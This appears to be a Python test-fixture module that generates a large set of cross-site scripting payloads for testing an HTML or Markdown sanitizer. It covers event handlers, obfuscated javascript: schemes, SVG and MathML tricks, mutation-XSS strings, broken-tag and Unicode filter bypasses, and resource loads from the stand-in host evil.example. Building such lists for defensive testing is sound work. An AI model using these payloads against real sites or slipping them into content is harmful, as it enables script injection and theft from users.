"""Texts that try to become script: families of tricks, combined with one another.

Whatever runs sets `window.xss`; whatever is loaded comes from `evil.example`.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

RUN = "window.xss=1"
EVIL = "https://evil.example/x"

EVENTS = (
    "onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onbegin", "onanimationstart",
    "onpageshow", "onpointerenter", "onbeforetoggle", "onscrollend",
)
# (before the handler, after it): an element of each kind that fires something by itself or by a touch.
ELEMENTS = (
    ("<img src=x ", ">"), ("<svg ", ">"), ("<svg/", "/>"), ("<body ", ">"), ("<input autofocus ", ">"),
    ("<details open ", "><summary>x</summary></details>"), ("<video src=x ", "></video>"), ("<audio src=x ", ">"),
    ("<iframe ", "></iframe>"), ("<a href=# ", ">x</a>"), ("<p ", ">x</p>"), ("<marquee ", ">x</marquee>"),
    ("<select autofocus ", "></select>"), ("<textarea autofocus ", "></textarea>"), ("<object data=x ", "></object>"),
    ("<math ", "><mi>x</mi></math>"), ("<style ", "></style>"), ("<button popovertarget=p ", ">x</button>"),
)
# One word that browsers read as "javascript:", written in ways that a filter may not.
SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "java\rscript:", "\x01javascript:", " javascript:",
    "javascript\t:", "jav&#x09;ascript:", "jav&#10;ascript:", "&#106;avascript:", "&#x6A;avascript&colon;", "javascript&colon;",
    "java&Tab;script:", "javascript&#58;", "javascript&#0000058", "j\x00avascript:", "ｊavascript:", "java\u200bscript:",
    "javascript\uff1a", "%6aavascript:", "feed:javascript:", "view-source:javascript:", "vbscript:", "VBScript:",
    "data:text/html,<script>window.xss=1</script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cueHNzPTE8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg onload=window.xss=1>", "blob:https://evil.example/1", "filesystem:https://evil.example/1", "livescript:",
    "//evil.example\\@javascript:",
)
PLACES = (
    "[x]({})", "[x](<{}>)", "![x]({})", "<{}>", "[x]\n\n[x]: {}", '<a href="{}">x</a>', "<a href={}>x</a>", "<form action='{}'><button>x</form>",
    '<iframe src="{}">', "<object data='{}'>", "<svg><a xlink:href='{}'><text>x</text></a></svg>",
)
FOREIGN = (
    "<svg><script>{}</script></svg>", "<svg><script href='data:,{}'/></svg>", "<svg><foreignObject><img src=x onerror={}></foreignObject></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:{}><a><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>{}</script></svg>#x'/></svg>", "<svg><image href=x onerror={}></svg>",
    "<svg><title><img src=x onerror={}></title></svg>", "<svg><desc><script>{}</script></desc></svg>", "<svg><handler type='text/javascript'>{}</handler></svg>",
    "<math><mtext><img src=x onerror={}></mtext></math>", "<math href='javascript:{}'>x</math>", "<math><maction actiontype='statusline#x' xlink:href='javascript:{}'>x</maction></math>",
    "<math><annotation-xml encoding='text/html'><script>{}</script></annotation-xml></math>", "<math><mglyph><style><img src=x onerror={}></style></mglyph></math>",
)
# What a parser takes for text, and the next one that reads its output does not.
MUTATING = (
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror={}>">',
    '<svg></p><style><a id="</style><img src=x onerror={}>">', "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={}>",
    '<noscript><p title="</noscript><img src=x onerror={}>">', "<template><p title='</template><img src=x onerror={}>'>",
    '<xmp><p title="</xmp><img src=x onerror={}>">', '<textarea><p title="</textarea><img src=x onerror={}>">',
    '<title><a title="</title><img src=x onerror={}>">', '<noembed><a title="</noembed><img src=x onerror={}>">',
    '<iframe><a title="</iframe><img src=x onerror={}>">', "<!--><img src=x onerror={}>-->", "<!--!><img src=x onerror={}>", "<!-- --!><img src=x onerror={}>",
    "<![CDATA[><img src=x onerror={}>]]>", "<?xml ><img src=x onerror={}>", "<plaintext><img src=x onerror={}>", "<a><table><a><img src=x onerror={}>",
    "<option><style></option></select><img src=x onerror={}></style>", "<br title='`><img src=x onerror={}>'>", "<listing>&lt;img src=x onerror={}&gt;</listing>",
)
# How a tag may be broken so that only browsers still see one.
BROKEN = (
    "<script>{}</script>", "<SCRIPT>{}</SCRIPT >", "<scr<script>ipt>{}</scr</script>ipt>", "<script\n>{}</script\n>", "<script/x>{}</script>", "<script\x0c>{}</script>",
    "<script\x00>{}</script>", "<<script>{}//<</script>", "<script>{}", "<script src=//evil.example/x.js></script>", "<script type=module>{}</script>",
    "<script>/*{}*/{}</script>", '"><script>{}</script>', "'><script>{}</script>", "</p></div><script>{}</script>", "</textarea><script>{}</script>", "</style><script>{}</script>",
    "</title><script>{}</script>", "-->\n<script>{}</script>", "]]><script>{}</script>", "`<script>{}</script>", "<p/onclick={}>", "<img/src=x/onerror={}>", "<img src=x\x0bonerror={}>",
    "<img src=x onerror\x0c={}>", "<img src=x onerror=\x01{}>", '<img src="x"onerror="{}">', "<img src=x onerror=&#119;indow.xss=1>", "<img src=x:x onerror='{}'", "<img src='x' onerror='{}'/ >",
    "<image src=x onerror={}>", "<isindex type=image src=x onerror={}>", "<x onclick={} tabindex=1 autofocus onfocus={}>", "<custom-element onclick={}>x</custom-element>",
)
LOADING = (
    "<img src={}>", "<img srcset='{} 1x, {} 2x'>", "<picture><source srcset={}><img></picture>", "<video poster={}></video>", "<audio src={} autoplay></audio>", "<link rel=stylesheet href={}>",
    "<link rel=preload as=script href={}>", "<link rel=prefetch href={}>", "<link rel=dns-prefetch href={}>", "<link rel=import href={}>", "<base href={}>", "<meta http-equiv=refresh content='0;url={}'>",
    "<meta http-equiv=Set-Cookie content='a=1'><img src={}>", "<meta name=referrer content=unsafe-url>", "<embed src={}>", "<object data={}></object>", "<iframe src={}></iframe>", "<iframe srcdoc='<script>parent.xss=1</script>'></iframe>",
    "<frameset><frame src={}></frameset>", "<applet code={}></applet>", "<input type=image src={}>", "<body background={}>", "<table background={}><td>x</table>", "<track src={}>", "<portal src={}></portal>",
    "<fencedframe src={}></fencedframe>", "<script src={}></script>", "<style>@import '{}';</style>", "<style>*{{background:url({})}}</style>", "<p style='background:url({})'>x</p>",
    "<p style=\"background-image:image-set('{}' 1x)\">x</p>", "<p style='list-style:url({})'>x</p>", "<style>@font-face{{font-family:x;src:url({})}}p{{font-family:x}}</style>", "<p style='width:expression(window.xss=1)'>x</p>",
    "<p style='-moz-binding:url({})'>x</p>", "<p style='behavior:url({})'>x</p>", "![x]({})", "![x](<{}>)", "![x][y]\n\n[y]: {}", "[![x]({})](https://a.example)", "<bgsound src={}>", "<a ping={} href=#>x</a>",
    "<svg><image href={}></svg>", "<svg><use href={}#x></svg>", "<svg><feImage href={}></svg>", "<form action={}><button autofocus>x</button></form>", "<button formaction={}>x</button>", "<template shadowrootmode=open><img src={}></template>",
    "<template><img src={}></template>", "<noscript><img src={}></noscript>", "<dialog open><img src={}></dialog>",
)
MARKDOWN = (
    "[<img src=x onerror={0}>](https://a.example)", '[x](https://a.example/"onmouseover={0}")', "[x](https://a.example '\"><img src=x onerror={0}>')", "[x](https://a.example \"'><img src=x onerror={0}>\")",
    '[x](https://a.example" onclick="{0})', '[x](<https://a.example" onclick="{0}>)', 'https://a.example/"onclick="{0}', "https://a.example/'><img src=x onerror={0}>", "www.a.example/<img src=x onerror={0}>",
    '<https://a.example/"onclick="{0}>', "<https://a.example/><img src=x onerror={0}>", 'a@b.example"><img src=x onerror={0}>', '<a@b.example"onclick={0}>', "```<img src=x onerror={0}>\nx\n```", "```html\n<script>{0}</script>\n```",
    '``` "><img src=x onerror={0}>\nx\n```', "`<script>{0}</script>`", "``` ` <script>{0}</script> ```", "    <script>{0}</script>", "> <script>{0}</script>", "- <img src=x onerror={0}>\n  - <svg onload={0}>", "1. <script>{0}\n2. </script>",
    "*<img src=x onerror={0}>*", "**<script>**{0}**</script>**", "~~<svg onload={0}>~~", "\\<script>{0}\\</script>", "\\\\<script>{0}</script>", "&lt;script&gt;{0}&lt;/script&gt;", "&#60;script&#62;{0}&#60;/script&#62;",
    "&#x3c;script&#x3e;{0}&#x3C;/script&#x3E;", "&LT;script&GT;{0}&LT;/script&GT;", "&amp;lt;script&amp;gt;{0}", "&lt<script>{0}", "&NewLine;<script>{0}</script>", '[x]: javascript:{0} "t"\n\n[x]', "[x\n](javascript:{0})", "[x](\njavascript:{0}\n)",
    '[x](javascript:{0} "t")', "[x]('javascript:{0}')", "[x](\\javascript:{0})", "[x](javascript\\:{0})", "[x](javascript&#x3a;{0})", "[[x](https://a.example)](javascript:{0})", "![[x](javascript:{0})](x)", "| a |\n|---|\n| <img src=x onerror={0}> |",
    "# <img src=x onerror={0}>", "<!-- {0} --><script>{0}</script>", "<div>\n\n**x**\n\n<script>{0}</script></div>", "{{{{constructor.constructor('{0}')()}}}}", "${{{0}}}", "#{{{0}}}", "{{% {0} %}}", "<%= {0} %>", '[x](#" onclick={0})',
)
# Characters that normalisation, or a browser's own decoding, may turn into others.
CHARACTERS = (
    "＜script＞{}＜/script＞", "﹤script﹥{}﹤/script﹥", "\u2039script\u203a{}\u2039/script\u203a", "\u226ascript\u226b{}", "<\u017fcript>{}</\u017fcript>", "<img src=x on\u0435rror={}>", "<\u200bscript>{}</script>", "<script\u200b>{}</script>",
    "\u202e>tpircs/<{}>tpircs<", "\u2066<script>\u2069{}</script>", "\u202a<img src=x onerror={}>\u202c", "\ufeff<script>{}</script>", "<\x00script>{}</script>", "<scr\x00ipt>{}</script>", "<img src=x o\x00nerror={}>", "<img\u00a0src=x onerror={}>",
    "<img\u2028src=x\u2028onerror={}>", "\x1b[31m<script>{}</script>", "\x08<script>{}</script>", "\x7f<script>{}</script>", "+ADw-script+AD4-{}+ADw-/script+AD4-", "\xbcscript\xbe{}\xbc/script\xbe", "%3Cscript%3E{}%3C/script%3E",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e", "\\x3cscript\\x3e{}", "<script>\u2028{}\u2028</script>", "<\ud7ffscript>{}</script>", "<script\u3000>{}</script>", "a\u0338<script>{}</script>", "\u00ad<\u00adscript>{}</script>",
)


def vectors() -> list[str]:
    """All of them, each once."""
    return list(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    for (before, after), event in product(ELEMENTS, EVENTS):
        yield f"{before}{event}={RUN}{after}"
    for scheme, place in product(SCHEMES, PLACES):
        yield place.replace("{}", scheme if "," in scheme or scheme.startswith(("//", "blob", "file")) else scheme + RUN)
    for template in (*FOREIGN, *MUTATING, *BROKEN, *CHARACTERS):
        yield template.replace("{}", RUN)
        # The same behind what Markdown takes for a construct of its own.
        yield f"> - *{template.replace('{}', RUN)}*"
    for template in LOADING:
        yield template.format(EVIL, EVIL)
    for template in MARKDOWN:
        yield template.format(RUN)


def names() -> list[str]:
    """Those short enough for names, titles and notes: one of every kind."""
    breaking = ('"><img src=x onerror={}>', "'><svg onload={}>", "</title><script>{}</script>", "</textarea><script>{}</script>", "</script><script>{}</script>", '" autofocus onfocus={} x="', "' onmouseover='{}", "javascript:{}", "{{{{{}}}}}", "<!--<script>{}")
    short = [template.replace("{}", RUN) for template in breaking]
    return short + [v for v in vectors()[::37] if len(v) <= 150]
